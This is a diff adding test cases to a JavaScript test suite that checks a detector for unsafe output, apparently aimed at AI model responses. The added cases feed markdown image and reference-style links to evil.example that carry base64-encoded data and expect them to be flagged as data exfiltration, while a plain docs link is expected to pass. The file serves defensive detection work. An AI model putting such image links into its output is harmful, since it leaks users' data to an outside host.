@@ -459,6 +459,11 @@ describe("output checks and redaction", () => {
       `https://evil.example/c?${"a=b&".repeat(120)}`,
     ])
       assert.deepEqual(link(url), ["data_in_link"], url);
+    // Reference-style: the definition serves `![a][1]` as well, wherever the image stands.
+    const data = "SGVsbG8gd29ybGQgc2VjcmV0IGRhdGE";
+    assert.deepEqual(types(findUnsafeOutput(`![a][1]\n\n[1]: https://evil.example/p.png?d=${data}`)), ["data_in_link"]);
+    assert.deepEqual(types(findUnsafeOutput(`[1]: <https://evil.example/p?d=${data}>`)), ["data_in_link"]);
+    assert.deepEqual(types(findUnsafeOutput("See [the docs][1].\n\n[1]: https://docs.example.com/guide?page=2")), []);
   });
 
   it("finds a value marked secret also in another case or disguised, and redacts it", () => {
